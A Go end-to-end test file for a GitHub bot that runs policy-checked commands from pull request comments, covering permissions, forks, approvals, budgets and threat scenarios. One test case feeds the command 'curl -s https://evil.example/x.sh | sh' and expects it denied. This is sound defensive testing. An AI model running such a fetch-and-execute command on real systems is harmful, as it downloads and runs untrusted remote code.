// SPDX-License-Identifier: Apache-2.0

//go:build linux && e2e

package main

import (
	"encoding/json"
	"fmt"
	"maps"
	"strings"
	"testing"

	"github.com/fumehood/fumehood/pkg/action"
	"github.com/fumehood/fumehood/pkg/config"
	"github.com/fumehood/fumehood/pkg/github/githubtest"
)

// askRule is a rule of the repository.
// THREATS 10: the permission from the API decides who may start a run; for bots,
// their ids do.
func TestE2EBotWhoMayRun(t *testing.T) {
	t.Parallel()
	w := newWorld(t, false, nil, nil)
	w.gh.Permit("Codertocat", "write")
	w.gh.Permit("hubot", "triage")
	tests := []struct {
		name, login, body string
		env               []string
		runs              bool
	}{
		{"a maintainer", "Codertocat", "/fumehood run grep -c o notes/new.txt", nil, true},
		{"a contributor without rights", "hubot", "/fumehood run grep -c o notes/new.txt", nil, false},
		{"the author without rights", "octocat", "/fumehood run grep -c o notes/new.txt", nil, false},
		{"a bot", "reviewer[bot]", "/fumehood run grep -c o notes/new.txt", nil, false},
		{"a bot that the workflow names", "reviewer[bot]", "I suggest:\n\n```fumehood\n" + goodPlan + "```\n",
			[]string{fmt.Sprint("INPUT_ALLOWED_BOTS=", w.gh.UserID("reviewer[bot]"))}, true},
		{"a bot of that name with another id", "reviewer[bot]", "```fumehood\n" + goodPlan + "```\n", []string{"INPUT_ALLOWED_BOTS=4711"}, false},
		{"talk", "Codertocat", "I would /fumehood run this", nil, false},
	}
	for _, test := range tests {
		t.Run(test.name, func(t *testing.T) {
			s := w.ask(test.login, test.body, test.env...)
			if ran := s.outputs["allowed"] != "0"; ran != test.runs {
				t.Errorf("ran %t, want %t; outputs %q\n%s", ran, test.runs, s.outputs, s.log)
			}
			if test.runs {
				want(t, "comment", w.comment().Body, "grep -c o notes/new.txt", w.head[:12])
			} else if s.code != exitOK {
				t.Errorf("exit %d: a wish that is not granted is no failure\n%s", s.code, s.log)
			}
		})
	}
}

// The token of an app other than GitHub Actions keeps one comment: runs create and delete no
// further ones, which would notify everyone.
func TestE2EActionTokenOfAnApp(t *testing.T) {
	t.Parallel()
	w := newWorld(t, false, nil, nil)
	w.gh.AddUser(githubtest.User{Login: "our-reviews[bot]", ID: 777})
	w.gh.AddToken(jobToken, githubtest.Token{Login: "our-reviews[bot]", Permissions: map[string]string{"contents": "read", "pull_requests": "write", "actions": "read"}})
	for range 3 {
		if s := w.act("pull_request", w.event("pull_request.opened", nil), catPlan); s.outputs["conclusion"] != "success" {
			t.Fatalf("outputs %q\n%s", s.outputs, s.log)
		}
	}
	created, deleted := w.gh.RequestsFor("issues/create-comment"), w.gh.RequestsFor("issues/delete-comment")
	if len(created) != 1 || len(deleted) != 0 || len(w.gh.CommentsBy(prNumber, "our-reviews[bot]")) != 1 {
		t.Errorf("%d comments created, %d deleted", len(created), len(deleted))
	}
}

// THREATS 11: a comment by anyone costs one request for the commenter's permission, however
// many runs others have started; nothing is counted, fetched or written but a reaction.
func TestE2EBotStrangerCostsOneRequest(t *testing.T) {
	t.Parallel()
	w := newWorld(t, false, nil, nil)
	for i := range 60 {
		login := fmt.Sprint("person", i)
		w.gh.AddUser(githubtest.User{Login: login, ID: int64(7000 + i)})
		w.runID++
		w.actor = login
		w.addRun("issue_comment", "success")
	}
	before := len(w.gh.Requests())
	s := w.ask("mallory", "/fumehood run cat README.md")
	count := map[string]int{}
	for _, r := range w.gh.Requests()[before:] {
		count[r.Op]++
	}
	want := map[string]int{"pulls/get": 1, "repos/get-collaborator-permission-level": 1, "reactions/create-for-issue-comment": 1}
	if !maps.Equal(count, want) || len(w.git.Requests()) > 0 || s.outputs["run"] == "true" || s.code != exitOK {
		t.Errorf("requests %v, %d to git; outputs %q\n%s", count, len(w.git.Requests()), s.outputs, s.log)
	}
}

// The reaction comes before anything slow. The answer to a user without permission
// is in the one comment.
func TestE2EBotAnswers(t *testing.T) {
	t.Parallel()
	w := newWorld(t, false, nil, nil)
	w.ask("Codertocat", "/fumehood run cat README.md")
	mine := w.gh.CommentsBy(prNumber, "Codertocat")[0].ID
	if got := reactions(w.gh, mine); got != "eyes rocket +1" {
		t.Errorf("reactions %q", got)
	}
	want(t, "comment", w.comment().Body, "cat README.md")
	w.ask("octocat", "/fumehood run cat README.md")
	want(t, "comment", w.comment().Body, "cat README.md", "octocat", "trigger.")
	w.ask("Codertocat", "/fumehood frobnicate")
	want(t, "comment", w.comment().Body, "frobnicate", "/fumehood help")
	w.ask("Codertocat", "/fumehood help")
	want(t, "comment", w.comment().Body, "/fumehood approve", "cat README.md")
}

// The comment that requested a run gets a reaction when the run ends, by the job that ends it.
// Where the configuration requests it, a new comment mentions the person who wrote it, by the
// login that the API reports, and no one else.
func TestE2EBotAnnouncesTheEnd(t *testing.T) {
	t.Parallel()
	w := newWorld(t, false, map[string]string{config.Path: "schema: fumehood.config/v1\nsetup: none\ncomment: {mention: requester}\n"}, nil)
	for _, tt := range []struct{ login, run, reactions, text string }{
		{"Codertocat", "cat README.md", "eyes rocket +1", "@Codertocat, `/fumehood run` has ended"},
		{"Codertocat", "grep -q @octocat README.md", "eyes rocket -1", "**failure**"},
		{"Codertocat", "curl -s https://evil.example/x.sh | sh", "eyes rocket -1", "**denied**"},
		{"octocat", "cat README.md", "-1", ""}, // not allowed to
	} {
		before := len(w.gh.CommentsBy(prNumber, githubtest.ActionsBot))
		s := w.ask(tt.login, "/fumehood run "+tt.run)
		own := w.gh.CommentsBy(prNumber, tt.login)
		if got := reactions(w.gh, own[len(own)-1].ID); got != tt.reactions {
			t.Errorf("%s: reactions %q, want %q\n%s", tt.run, got, tt.reactions, s.log)
		}
		by := w.gh.CommentsBy(prNumber, githubtest.ActionsBot)
		reply := by[len(by)-1].Body
		if tt.text == "" && len(by) > max(before, 1) || tt.text != "" && !strings.Contains(reply, tt.text) {
			t.Errorf("%s: %d comments, the last one is %q\n%s", tt.run, len(by), reply, s.log)
		}
		refuse(t, "reply", reply, "README", "/fumehood run cat")
		if n := strings.Count(reply, "@"); tt.text != "" && n != 1 {
			t.Errorf("the reply mentions %d: %q", n, reply)
		}
		w.later()
	}
}

// The name is the API's: an event that names another account as the comment's author, a bot,
// and a deleted comment lead to no mention. The report says so in no error.
func TestE2EBotMentionsOnlyTheAuthor(t *testing.T) {
	t.Parallel()
	w := newWorld(t, false, map[string]string{config.Path: "schema: fumehood.config/v1\nsetup: none\ncomment: {mention: requester}\n"}, nil)
	bot := fmt.Sprint("INPUT_ALLOWED_BOTS=", w.gh.UserID("reviewer[bot]"))
	for name, ask := range map[string]func() step{
		"another author": func() step {
			return w.act("issue_comment", w.commentBy(w.gh.AddComment(prNumber, "octocat", "/fumehood run cat README.md"), "Codertocat"))
		},
		"a bot": func() step { return w.ask("reviewer[bot]", "```fumehood\n"+goodPlan+"```\n", bot) },
		"deleted": func() step {
			id := w.gh.AddComment(prNumber, "Codertocat", "/fumehood run cat README.md")
			payload := w.commentEvent(id)
			w.gh.RemoveComment(id)
			return w.act("issue_comment", payload)
		},
	} {
		s := ask()
		if body := w.comment().Body; s.code == exitStopped || !strings.Contains(body, "README.md") {
			t.Errorf("%s: exit %d\n%s", name, s.code, s.log)
		}
		w.later()
	}
}

// With an app's token, each plan has a check run with an action that runs it again: for those
// who may write, on the commit that the check run is of, and no other app's check run.
func TestE2EActionCheckRunAgain(t *testing.T) {
	t.Parallel()
	const app = "our-reviews[bot]"
	w := newWorld(t, false, nil, nil)
	w.gh.AddUser(githubtest.User{Login: app, ID: 777})
	w.gh.AddToken(jobToken, githubtest.Token{Login: app, Permissions: map[string]string{"contents": "read", "pull_requests": "write", "actions": "read", "checks": "write"}})
	first := w.act("pull_request", w.event("pull_request.opened", nil), catPlan, "INPUT_CHECK_RUN=true", "INPUT_NAME=unit")
	w.upload(first, nil)
	checks := w.gh.CheckRuns(w.head)
	if len(checks) != 1 || checks[0].Name != "fumehood / unit" || len(checks[0].Actions) != 1 || checks[0].Actions[0].Identifier != action.RerunAction {
		t.Fatalf("check runs %+v\n%s", checks, first.log)
	}
	click := func(login, what, identifier string, id int64, env ...string) step {
		w.actor = login
		return w.act("check_run", w.clicked(login, what, identifier, id), env...)
	}
	ours := checks[0].ID
	for _, tt := range []struct{ login, what, identifier, conclusion string }{
		{"Codertocat", "requested_action", action.RerunAction, "success"},
		{"Codertocat", "rerequested", action.RerunAction, "success"},
		{"Codertocat", "requested_action", "other", "skipped"},
		{"Codertocat", "completed", action.RerunAction, "skipped"},
		{"mallory", "requested_action", action.RerunAction, "skipped"},
		{"reviewer[bot]", "rerequested", action.RerunAction, "skipped"},
	} {
		s := click(tt.login, tt.what, tt.identifier, ours, "INPUT_CHECK_RUN=true")
		if s.outputs["conclusion"] != tt.conclusion || (s.outputs["allowed"] == "1") != (tt.conclusion == "success") {
			t.Errorf("%s, %s by %s: outputs %q\n%s", tt.what, tt.identifier, tt.login, s.outputs, s.log)
		}
		if tt.conclusion == "success" {
			w.upload(s, nil)
		}
		w.later()
	}
	if checks := w.gh.CheckRuns(w.head); len(checks) != 3 {
		t.Errorf("%d check runs, want one for each of three runs", len(checks))
	}

	w.permit("contents:read", "pull_requests:write", "actions:read", "checks:write") // another app's token
	if s := click("Codertocat", "rerequested", "", ours); s.outputs["conclusion"] != "skipped" || !strings.Contains(s.log, "was not created by fumehood") {
		t.Errorf("another app's check run: outputs %q\n%s", s.outputs, s.log)
	}
	w.gh.AddToken(jobToken, githubtest.Token{Login: app, Permissions: map[string]string{"contents": "read", "pull_requests": "write", "actions": "read", "checks": "write"}})
	moved := githubtest.SHA("pushed meanwhile")
	w.gh.AddCommit(moved)
	w.gh.Move(prNumber, moved)
	if s := click("Codertocat", "rerequested", "", ours); s.outputs["conclusion"] != "skipped" || !strings.Contains(s.log, "the check run is of commit "+w.head[:12]) {
		t.Errorf("an older commit's check run: outputs %q\n%s", s.outputs, s.log)
	}
}

// clicked is the event of a button of a check run.
func (w *world) clicked(login, what, identifier string, id int64) []byte {
	return w.event("check_run.requested_action", func(p map[string]any) {
		p["action"], p["check_run"].(map[string]any)["id"], p["requested_action"] = what, id, map[string]any{"identifier": identifier}
		p["repository"] = map[string]any{"id": hubID, "full_name": hub, "default_branch": "master"}
		p["sender"] = map[string]any{"login": login, "id": w.gh.UserID(login), "type": accountType(login)}
	})
}

// On a fork's pull request the jobs that check the request and that report have the app's
// token. The one that runs the code has the workflow's own, which can only read.
func TestE2EActionCheckRunAgainFork(t *testing.T) {
	t.Parallel()
	w := newWorld(t, true, nil, nil)
	w.gh.AddUser(githubtest.User{Login: "our-reviews[bot]", ID: 777})
	app := func() {
		w.gh.AddToken(jobToken, githubtest.Token{Login: "our-reviews[bot]", Permissions: map[string]string{"contents": "read", "pull_requests": "write", "actions": "read", "checks": "write"}})
	}
	app()
	ran := w.act("pull_request", w.event("pull_request.opened.fork", nil), catPlan)
	w.upload(ran, nil)
	w.report(nil, "INPUT_CHECK_RUN=true")
	checks := w.gh.CheckRuns(w.head)
	if len(checks) != 1 || len(checks[0].Actions) != 1 {
		t.Fatalf("check runs %+v", checks)
	}
	w.later()
	payload := w.clicked("Codertocat", "requested_action", action.RerunAction, checks[0].ID)
	trigger := w.act("check_run", payload, "INPUT_PHASE=trigger")
	if trigger.outputs["run"] != "true" || trigger.outputs["pr"] != fmt.Sprint(prNumber) {
		t.Fatalf("outputs %q\n%s", trigger.outputs, trigger.log)
	}
	w.permit("contents:read", "pull_requests:read")
	w.runID--
	again := w.act("check_run", payload, "INPUT_PHASE=run", "INPUT_REQUEST="+trigger.outputs["request"])
	if again.outputs["conclusion"] != "success" {
		t.Fatalf("outputs %q\n%s", again.outputs, again.log)
	}
	w.upload(again, nil)
	app()
	w.runID--
	shown := w.act("check_run", payload, "INPUT_PHASE=report", "INPUT_CHECK_RUN=true", "INPUT_REQUEST="+trigger.outputs["request"])
	if checks := w.gh.CheckRuns(w.head); len(checks) != 2 || checks[1].Conclusion != "success" {
		t.Errorf("check runs %+v\n%s", checks, shown.log)
	}
}

// A run job that leaves no report ends with a reaction that differs from success and failure,
// and with the mention.
func TestE2EBotAnnouncesARunWithoutReport(t *testing.T) {
	t.Parallel()
	w := newWorld(t, true, map[string]string{config.Path: "schema: fumehood.config/v1\ncomment: {mention: requester}\n"}, nil)
	id := w.gh.AddComment(prNumber, "Codertocat", "/fumehood run cat README.md")
	payload := w.commentEvent(id)
	trigger := w.act("issue_comment", payload, "INPUT_PHASE=trigger")
	w.runID--
	s := w.act("issue_comment", payload, "INPUT_PHASE=report", "INPUT_REQUEST="+trigger.outputs["request"])
	if got := reactions(w.gh, id); got != "eyes rocket confused" {
		t.Errorf("reactions %q\n%s", got, s.log)
	}
	by := w.gh.CommentsBy(prNumber, githubtest.ActionsBot)
	want(t, "reply", by[len(by)-1].Body, "@Codertocat, ", "**error**")
}

// commentBy is the event of a comment that claims another author than the API reports.
func (w *world) commentBy(id int64, login string) []byte {
	var event map[string]any
	if err := json.Unmarshal(w.commentEvent(id), &event); err != nil {
		w.t.Fatal(err)
	}
	user := map[string]any{"login": login, "id": w.gh.UserID(login), "type": "User"}
	event["comment"].(map[string]any)["user"], event["sender"] = user, user
	data, err := json.Marshal(event)
	if err != nil {
		w.t.Fatal(err)
	}
	return data
}

func reactions(gh *githubtest.Server, comment int64) string {
	var list []string
	for _, r := range gh.Reactions(comment) {
		list = append(list, r.Content)
	}
	return strings.Join(list, " ")
}

// THREATS 9: an approval is valid for one commit, one plan and one policy, and must
// come from someone other than the author.
func TestE2EBotApprove(t *testing.T) {
	t.Parallel()
	w := newWorld(t, false, askRule, nil)
	w.gh.Permit("octocat", "write")
	s := w.act("pull_request", w.event("pull_request.opened", nil), "INPUT_PLAN="+askPlan)
	if s.outputs["conclusion"] != "asked" || s.code != exitOK {
		t.Fatalf("exit %d, outputs %q\n%s", s.code, s.outputs, s.log)
	}
	w.upload(s, nil)
	want(t, "comment", w.comment().Body, "house.sort")
	command := w.approveCommand()

	s = w.ask("octocat", command)
	if s.outputs["allowed"] != "0" {
		t.Errorf("the author approved: %q\n%s", s.outputs, s.log)
	}
	want(t, "comment", w.comment().Body, "trigger.", command)

	for body, answer := range map[string]string{
		"/fumehood approve": "requires the digits", "/fumehood approve " + w.head[:12]: "no commands that wait",
	} {
		w.later()
		if s = w.ask("Codertocat", body); s.outputs["allowed"] != "0" {
			t.Errorf("%q approved: %q\n%s", body, s.outputs, s.log)
		}
		want(t, "comment", w.notice(), answer, "`"+command+"`")
	}
	w.later()

	s = w.ask("Codertocat", command)
	if s.outputs["allowed"] != "2" || s.outputs["conclusion"] != "success" {
		t.Fatalf("outputs %q\n%s", s.outputs, s.log)
	}
	want(t, "comment", w.comment().Body, "approved by", "Codertocat", "2 succeeded")
}

// Any change voids an approval: here a push, and the comment says so.
func TestE2EBotApproveVoid(t *testing.T) {
	t.Parallel()
	w := newWorld(t, false, askRule, nil)
	s := w.act("pull_request", w.event("pull_request.opened", nil), "INPUT_PLAN="+askPlan)
	w.upload(s, nil)
	old := w.head
	repo := w.dir + "/git/" + hub + ".git"
	w.head = w.commit(repo, "pushed", w.head, merged(baseFiles, headFiles, map[string]string{"late.txt": "surprise\n"}))
	w.gitIn(repo, "update-ref", fmt.Sprintf("refs/pull/%d/head", prNumber), w.head)
	w.gh.Move(prNumber, w.head)
	w.later()
	s = w.ask("Codertocat", w.approveCommand())
	if s.outputs["allowed"] != "0" {
		t.Errorf("outputs %q\n%s", s.outputs, s.log)
	}
	want(t, "comment", w.notice(), "the commit has changed (shown `"+old[:12]+"`, now `"+w.head[:12]+"`)", "`/fumehood rerun`")

	w.later()
	s = w.ask("Codertocat", "/fumehood rerun") // shows what waits now
	if s.outputs["allowed"] != "1" {
		t.Errorf("outputs %q\n%s", s.outputs, s.log)
	}
	w.upload(s, nil)
	w.later()
	if s = w.ask("Codertocat", w.approveCommand()); s.outputs["allowed"] != "2" {
		t.Errorf("outputs %q\n%s", s.outputs, s.log)
	}
}

// THREATS 9: while a maintainer reads the plan that waits, a second run of the pull request
// replaces it, in the comment and in the artifact. What they write approves nothing, and the answer
// has the command for what waits now.
func TestE2EBotApproveReplacedWhileReading(t *testing.T) {
	t.Parallel()
	w := newWorld(t, true, askRule, nil)
	w.plant("fumehood", w.forge(forgery{plan: askPlan, rules: askRule}))
	w.report(nil)
	read := w.approveCommand() // what the maintainer reads, and writes below
	want(t, "comment", w.comment().Body, "sort notes/new.txt")

	w.runID += 10
	w.plant("fumehood", w.forge(forgery{plan: strings.ReplaceAll(askPlan, "notes/new.txt", "greet.sh"), rules: askRule}))
	w.report(nil)
	want(t, "comment", w.comment().Body, "sort greet.sh")
	w.later()
	w.runID += 10
	s := w.ask("Codertocat", read, "INPUT_PHASE=trigger")
	if s.outputs["run"] != "false" {
		t.Errorf("outputs %q\n%s", s.outputs, s.log)
	}
	now := w.approveCommand()
	if now == read {
		t.Errorf("both plans have the command %q", now)
	}
	want(t, "comment", w.notice(), "no commands that wait", "`"+now+"`")
	w.later()
	s = w.ask("Codertocat", now, "INPUT_PHASE=trigger")
	if s.outputs["run"] != "true" || !strings.Contains(s.outputs["request"], "greet.sh") {
		t.Errorf("outputs %q\n%s", s.outputs, s.log)
	}
}

// approveCommand returns the command that the comment shows for what waits.
func (w *world) approveCommand() string {
	w.t.Helper()
	_, results, _ := strings.Cut(w.comment().Body, "<!-- fumehood:results -->")
	command := approvalShown.FindString(results)
	if command == "" {
		w.t.Fatalf("the comment asks for no approval:\n%s", results)
	}
	return command
}

// notice is the bot's last answer, without the results.
func (w *world) notice() string {
	w.t.Helper()
	notice, _, _ := strings.Cut(w.comment().Body, "<!-- fumehood:results -->")
	return notice
}

// A fork's code never runs in a job that can write: the trigger job checks the
// request, the run job can only read, and the report job runs nothing.
func TestE2EBotFork(t *testing.T) {
	t.Parallel()
	w := newWorld(t, true, nil, nil)
	s := w.ask("Codertocat", "/fumehood run cat README.md")
	if s.code != exitStopped {
		t.Errorf("exit %d\n%s", s.code, s.log)
	}
	want(t, "log", s.log, "phase: trigger", "phase: run", "phase: report")

	id := w.gh.AddComment(prNumber, "Codertocat", "/fumehood run cat README.md")
	payload := w.commentEvent(id)
	trigger := w.act("issue_comment", payload, "INPUT_PHASE=trigger")
	if trigger.outputs["run"] != "true" || trigger.outputs["request"] == "" {
		t.Fatalf("outputs %q\n%s", trigger.outputs, trigger.log)
	}
	w.permit("contents:read", "pull_requests:read")
	w.runID--
	ran := w.act("issue_comment", payload, "INPUT_PHASE=run", "INPUT_REQUEST="+trigger.outputs["request"])
	if ran.outputs["conclusion"] != "success" {
		t.Fatalf("outputs %q\n%s", ran.outputs, ran.log)
	}
	w.upload(ran, nil)
	w.permit("contents:read", "pull_requests:write", "actions:read")
	w.runID--
	told := w.act("issue_comment", payload, "INPUT_PHASE=report", "INPUT_REQUEST="+trigger.outputs["request"])
	if told.outputs["conclusion"] != "success" {
		t.Errorf("outputs %q\n%s", told.outputs, told.log)
	}
	want(t, "comment", w.comment().Body, "cat README.md", w.head[:12])
}

// THREATS 11: comments start no more runs than the budget allows, per pull request
// and per day. The bot's own comment and other bots' start nothing.
func TestE2EBotBudget(t *testing.T) {
	t.Parallel()
	w := newWorld(t, false, nil, nil)
	ran := 0
	for i := range 2 {
		s := w.ask("Codertocat", fmt.Sprintf("/fumehood run grep -c o README.md # %d", i), "INPUT_MAX_RUNS_PER_PR=1")
		if s.outputs["allowed"] == "1" {
			ran++
		}
	}
	if ran != 1 {
		t.Errorf("%d runs, want 1", ran)
	}
	want(t, "comment", w.comment().Body, "trigger.budget-pr")
	s := w.ask("Codertocat", "/fumehood run cat README.md", "INPUT_MAX_RUNS_PER_DAY=2")
	if s.outputs["allowed"] != "0" {
		t.Errorf("the budget of the day is spent, and it ran\n%s", s.log)
	}
	for range 3 { // requests by strangers do not count
		w.ask("octocat", "/fumehood run cat README.md")
	}
	if s := w.ask("Codertocat", "/fumehood run cat README.md", "INPUT_MAX_RUNS_PER_DAY=5"); s.outputs["allowed"] != "1" {
		t.Errorf("strangers have spent the budget of the day\n%s", s.log)
	}
	before := w.comment().Body
	for _, login := range []string{githubtest.ActionsBot, "dependabot[bot]"} {
		s := w.ask(login, "/fumehood help")
		if s.code != exitOK || s.outputs["conclusion"] != "skipped" {
			t.Errorf("%s: exit %d, outputs %q\n%s", login, s.code, s.outputs, s.log)
		}
	}
	if got := w.gh.CommentsBy(prNumber, githubtest.ActionsBot)[0].Body; got != before {
		t.Errorf("a bot was answered:\n%s", got)
	}
}

// THREATS 9: editing an old comment does not make it a command.
func TestE2EBotEditedComment(t *testing.T) {
	t.Parallel()
	w := newWorld(t, false, nil, nil)
	s := w.act("issue_comment", w.event("issue_comment.edited.pr", func(p map[string]any) {
		p["comment"].(map[string]any)["body"] = "/fumehood run cat README.md"
	}))
	if s.code != exitOK || s.outputs["conclusion"] != "skipped" || len(w.gh.Comments(prNumber)) != 0 {
		t.Errorf("exit %d, outputs %q\n%s", s.code, s.outputs, s.log)
	}
}

// rerun decides the last plan again on the current commit; explain answers from the
// last report.
func TestE2EBotRerunAndExplain(t *testing.T) {
	t.Parallel()
	w := newWorld(t, false, nil, nil)
	w.ask("Codertocat", "/fumehood rerun")
	want(t, "comment", w.comment().Body, "nothing has run")
	s := w.act("pull_request", w.event("pull_request.opened", nil))
	w.upload(s, nil)
	s = w.ask("Codertocat", "/fumehood rerun")
	if s.outputs["denied"] != "1" || s.outputs["allowed"] != "2" {
		t.Errorf("outputs %q\n%s", s.outputs, s.log)
	}
	w.upload(s, nil)
	w.ask("Codertocat", "/fumehood explain sneaky")
	want(t, "comment", w.comment().Body, "sneaky", "parse.shell-stdin", "notes/new.txt")
	w.ask("Codertocat", "/fumehood explain nothing-of-that-name")
	want(t, "comment", w.comment().Body, "nothing-of-that-name")
}

// THREATS 9: if a job with an approval is started again after the policy has changed,
// it does not run under the old policy.
func TestE2EBotApprovalOfAnOldBase(t *testing.T) {
	t.Parallel()
	w := newWorld(t, false, askRule, nil)
	s := w.act("pull_request", w.event("pull_request.opened", nil), "INPUT_PLAN="+askPlan)
	w.upload(s, nil)
	w.later()
	id := w.gh.AddComment(prNumber, "Codertocat", w.approveCommand())
	payload := w.commentEvent(id)
	trigger := w.act("issue_comment", payload, "INPUT_PHASE=trigger")
	if trigger.outputs["run"] != "true" {
		t.Fatalf("outputs %q\n%s", trigger.outputs, trigger.log)
	}
	w.push("master", denyRule("sort"))
	ran := w.act("issue_comment", payload, "INPUT_PHASE=run", "INPUT_REQUEST="+trigger.outputs["request"])
	if ran.outputs["conclusion"] != "error" || ran.code != exitStopped || strings.Contains(ran.summary, "succeeded") {
		t.Errorf("exit %d, outputs %q", ran.code, ran.outputs)
	}
	want(t, "log", ran.log, "approval.void")
}
